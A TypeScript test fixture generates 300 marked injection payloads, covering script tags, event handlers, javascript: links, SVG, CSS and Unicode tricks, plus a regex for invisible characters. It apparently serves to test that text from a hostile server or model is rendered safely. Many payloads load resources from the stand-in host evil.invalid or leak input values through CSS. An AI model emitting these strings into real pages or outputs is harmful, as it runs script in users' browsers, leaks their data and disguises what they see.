// What a hostile server or model writes where it may write something: 300 texts, a
// fifth of them each scripts, Markdown, SVG, CSS, and characters that are not seen or
// change how the rest is read. Each holds its own mark (P000 to P299), by which a test
// knows that it was shown; each wants to run something, or to ask another host.

const host = "https://evil.invalid";
const run = "pwned(1)";
const b64 = (s: string) => Buffer.from(s).toString("base64");

const scripts = [
  `<script>${run}</script>`, `<script src="${host}/a.js"></script>`, `<img src=x onerror=${run}>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`, `<body onload=${run}>`, `<video><source onerror=${run}></video>`, `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`, `<object data="javascript:${run}"></object>`, `<embed src="${host}/e.swf">`, `<form action="${host}"><button formaction="javascript:${run}">x</button></form>`,
  `<base href="${host}/">`, `<meta http-equiv=refresh content="0;url=${host}">`, `<link rel=prefetch href="${host}/l">`, `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<template><script>${run}</script></template>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`, `<marquee onstart=${run}>x</marquee>`, `{{constructor.constructor('${run}')()}}`,
];
const markdown = [
  `![a](${host}/i.png)`, `[a](javascript:${run})`, `[a](JaVaScRiPt:${run})`, `[a](data:text/html;base64,${b64(`<script>${run}</script>`)})`, `[a](vbscript:${run})`,
  `<${host}/auto>`, `![a][r]\n\n[r]: ${host}/r.png`, `[a]: javascript:${run}\n\n[a]`, `[![a](${host}/n.png)](javascript:${run})`, `# <img src=x onerror=${run}>`,
  `| a |\n| --- |\n| <img src=x onerror=${run}> |`, "```html\n<script>" + run + "</script>\n```", `> <svg onload=${run}>`, `- [ ] <img src=${host}/t>`, `[a](<javascript:${run}>)`,
  `[a](\tjavascript:${run})`, `[a](&#106;avascript:${run})`, `[a](//evil.invalid/p)`, `**[a](java\u0000script:${run})**`, `~~<a href="javascript:${run}">x</a>~~`,
];
const svg = [
  `<svg onload=${run}></svg>`, `<svg><script>${run}</script></svg>`, `<svg><script href="${host}/s.js"/></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`, `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><image href="${host}/i.png"/></svg>`, `<svg><use href="${host}/u.svg#a"/></svg>`, `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="a" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#a"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"/></foreignObject></svg>`, `<svg><a href="javascript:${run}"><text>x</text></a></svg>`, `<svg><style>@import "${host}/c.css";</style></svg>`, `<svg><feImage href="${host}/f"/></svg>`,
  `<svg><handler>${run}</handler></svg>`, `<svg><discard onbegin=${run}></svg>`, `<svg><title><img src=x onerror=${run}></title></svg>`, `<svg><desc><script>${run}</script></desc></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${host}/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`, `<!DOCTYPE svg [<!ENTITY x SYSTEM "${host}/e">]><svg>&x;</svg>`, `<svg><cursor href="${host}/c"/></svg>`, `<svg><mpath href="${host}/m"/></svg>`,
];
const css = [
  `<style>@import url(${host}/a.css);</style>`, `<style>body{background:url(${host}/b)}</style>`, `<div style="background:url(${host}/c)">x</div>`, `<link rel=stylesheet href="${host}/d.css">`, `"style="background-image:url(${host}/e)`,
  `;background:url(${host}/f);`, `}body{display:none}`, `expression(${run})`, `<div style="width:expression(${run})">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">click</div>`,
  `<style>input[value^=a]{background:url(${host}/g)}</style>`, `<style>@font-face{font-family:x;src:url(${host}/h)}</style>`, `<xss style="behavior:url(${host}/i.htc)">`, `<div style="-moz-binding:url(${host}/j)">x</div>`, `</style><script>${run}</script>`,
  `<style>*{content:url(${host}/k)}</style>`, `fixed inset-0 z-50 bg-black`, `\\3c script\\3e ${run}`, `<div class="fixed inset-0 z-50" style="cursor:url(${host}/l),auto">x</div>`, `/* */@import '${host}/m';/*`,
];
const unicode = [
  `\u202e)1(denwp>tpircs<`, `\u2066\u2067\u2068\u2069`, `\u200b\u200c\u200d\ufeff`, `\u{e0041}\u{e0042}\u{e007f}`, `\u0000\u0001\u0008\u001b[31m`,
  `\u2028\u2029`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `\u02c2img src=x onerror=${run}\u02c3`, `a${"\u0301".repeat(300)}`, `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}`,
  `\u00ad\u180e\u2060\u2064`, `\u061c\u200e\u200f`, `\ufff9a\ufffab\ufffb`, `\u0085\u009b31m`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `\u212a\u017fcript`, `\u115f\u1160\u3164\uffa0`,
];

/** Three ways out of where the text stands: as it is, out of an attribute or a tag, out of a string, a comment or a title. */
const frames = [(m: string, t: string) => `${m} ${t}`, (m: string, t: string) => `${m}"'>${t}`, (m: string, t: string) => `${m}*/--></title></textarea></script>\`\${${run}}\\\`${t}`];

export const payloads: string[] = [scripts, markdown, svg, css, unicode]
  .flat()
  .flatMap((t) => frames.map((f) => [f, t] as const))
  .map(([f, t], i) => f(`P${String(i).padStart(3, "0")}`, t));

/** Characters that must never reach a page as they are; the joiner within an emoji may. */
export const unseen = /(?!(?<=\p{Extended_Pictographic})\u200d\p{Extended_Pictographic})[\u0000-\u0008\u000b\u000e-\u001f\u007f-\u009f\u034f\u115f\u1160\u3164\uffa0\u2028\u2029\ufe00-\ufe0e\p{Cf}\p{Co}]/u;

/** A text within double quotes as YAML and JSON both read it. */
export const quoted = (s: string): string =>
  `"${[...s].map((c) => {
    const n = c.codePointAt(0)!;
    if (c === '"' || c === "\\") return `\\${c}`;
    return n > 0xffff ? `\\U${n.toString(16).padStart(8, "0")}` : n < 0x20 || n > 0x7e ? `\\u${n.toString(16).padStart(4, "0")}` : c;
  }).join("")}"`;
